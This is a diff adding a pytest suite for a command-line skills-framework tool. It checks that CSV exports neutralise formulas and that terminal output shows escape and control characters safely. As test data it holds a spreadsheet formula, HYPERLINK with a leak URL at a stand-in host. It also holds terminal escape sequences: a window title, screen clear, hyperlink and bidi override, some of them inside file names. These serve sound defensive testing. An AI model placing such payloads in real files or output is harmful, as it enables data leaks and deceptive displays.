@@ -1,0 +1,118 @@
+"""The hostile-input catalogue, second round (issue #27), guards: formulas neutralised in every CSV,
+control and escape characters made visible, never executed, in every terminal output and message;
+a closed stdout is one line. Run through the real entry point by tests/hostile.py."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from hostile import KEY_PEOPLE, ROOT, Case, both, check_case, unit, write
+
+FORMULA = '=HYPERLINK("http://x.example/?leak","click")'
+# A window title, a clear screen, an OSC-8 link, a C1 CSI and a right-to-left override.
+ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \u202eevil"
+RAW = ("\x1b", "\x07", "\x9b", "\u202e")
+
+
+def _with(text: str) -> str:
+    return KEY_PEOPLE.replace("P12 implement", f"P12 {text} implement", 1)
+
+
+def no_raw_escapes(_: Path, result: subprocess.CompletedProcess) -> None:
+    for char in RAW:
+        assert char not in result.stdout + result.stderr, repr(char)
+
+
+def _csv_cells_safe(column: str):
+    def check(_: Path, result: subprocess.CompletedProcess) -> None:
+        rows = list(csv.DictReader(io.StringIO(result.stdout)))
+        assert rows
+        for row in rows:
+            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
+        assert any(row[column].startswith("'=HYPERLINK") for row in rows)
+
+    return check
+
+
+def _sdf(tmp: Path) -> None:
+    unit(
+        tmp,
+        "units/sdf.txt",
+        (ROOT / "data/raw/sdf/cwdc-skills-development-framework.txt").read_text(encoding="utf-8"),
+    )
+
+
+def _escaped_name(tmp: Path) -> None:
+    unit(tmp, "units/a\x1b]0;title\x07b.txt", _with(ESCAPES))
+
+
+CASES: dict[str, Case] = {
+    # --- formulas in every CSV ---------------------------------------------------------------------
+    "streamed crosswalk CSV: a formula in document text": Case(
+        ["crosswalk", "nos", "sdf", "--source-corpus", "units", "-f", "csv"],
+        lambda t: unit(t, "units/kp.txt", KEY_PEOPLE.replace("P12 implement", "P12 " + FORMULA + " implement", 1)
+                       .replace("\nP12 ", "\nP12 ", 1)),
+        exit=0, check=_csv_cells_safe("source_text")),
+    # --- terminal output ---------------------------------------------------------------------------
+    "show: escape sequences in a criterion": Case(["--corpus", "kp.txt", "show", "nos/kp/P12"], write("kp.txt", _with(ESCAPES)),
+                                                  exit=0, stdout="P12", check=no_raw_escapes),
+    "search: escape sequences in a hit": Case(["--corpus", "kp.txt", "search", "pwned"], write("kp.txt", _with(ESCAPES)),
+                                              exit=0, stdout="nos/kp/P12", check=no_raw_escapes),
+    "validate text: escape sequences in a file name and text": Case(["validate", "units"], _escaped_name, exit=1, check=no_raw_escapes),
+    "validate github: escape sequences in a file name and text": Case(["validate", "units", "-f", "github"], _escaped_name,
+                                                                      exit=1, stdout="::error", check=no_raw_escapes),
+    "list: escape sequences in a file name": Case(["--corpus", "units", "list"], _escaped_name, exit=0, check=no_raw_escapes),
+    "an error message quoting a file name with escapes": Case(["--corpus", "a\x1b[2Jb.txt", "list"], stderr="no such file",
+                                                              check=no_raw_escapes),
+    "diff markdown: escape sequences in a change": Case(["diff", "old.txt", "new.txt", "-f", "markdown"],
+                                                        both(write("old.txt", KEY_PEOPLE), write("new.txt", _with(ESCAPES))),
+                                                        exit=0, check=no_raw_escapes),
+    "statements JSON: C1 and bidi controls escaped": Case(["--corpus", "kp.txt", "statements", "-f", "json"], write("kp.txt", _with(ESCAPES)),
+                                                          exit=0, stdout="\\u009b31m", check=no_raw_escapes),
+    "crosswalk text: escape sequences in a source": Case(["--corpus", "units", "crosswalk", "nos", "sdf", "--no-reviews"],
+                                                         both(lambda t: unit(t, "units/kp.txt", _with(ESCAPES)), _sdf), exit=0,
+                                                         stdout="nos/kp/P12", check=no_raw_escapes),
+    # --- a closed stdout ---------------------------------------------------------------------------
+    "stdout closed (list)": Case(["list"], env={"STDOUT": "closed"}, stderr="standard output is closed"),
+    "stdout closed, -o given: runs": Case(["export", "-f", "json", "--framework", "sdf", "-o", "x.json"], env={"STDOUT": "closed"},
+                                          exit=0, check=lambda t, _: json.loads((t / "x.json").read_text(encoding="utf-8"))),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", list(CASES))
+def test_hostile_guard(name: str, tmp_path: Path) -> None:
+    check_case(CASES[name], tmp_path)
+
+
+def test_visible_keeps_text_and_columns() -> None:
+    from cwframe.render.visible import json_escaped, visible
+
+    assert visible("plain\ttext\n") == "plain\ttext\n"
+    assert visible("a\x1b[2Jb\x07\x9b\u202e") == "a\u241b[2Jb\u2407\ufffd\ufffd"
+    assert len(visible(ESCAPES)) == len(ESCAPES)
+    assert json.loads(json_escaped(json.dumps(ESCAPES, ensure_ascii=False))) == ESCAPES
+
+
+def test_review_page_download_guards_formulas_from_prior_decisions(tmp_path: Path) -> None:
+    """The page's CSV (JavaScript) neutralises a formula in a note read from --decisions, as every CSV does."""
+    node = next((p for p in ("/usr/bin/node", "/usr/bin/nodejs") if os.path.exists(p)), None)
+    if node is None:
+        pytest.skip("node is not installed; the browser test covers the page")
+    from importlib import resources
+
+    script = (resources.files("cwframe.render") / "assets" / "review.js").read_text(encoding="utf-8")
+    start = script.index("function csvField(value)")
+    end = script.index("\n  }\n", start) + 4
+    probe = (
+        script[start:end]
+        + f"\nprocess.stdout.write(csvField({json.dumps(FORMULA)}) + '|' + csvField('@SUM(1)'));"
+    )
+    out = subprocess.run([node, "-e", probe], capture_output=True, text=True, check=True).stdout
+    assert out == '"\'=HYPERLINK(""http://x.example/?leak"",""click"")"|\'@SUM(1)'
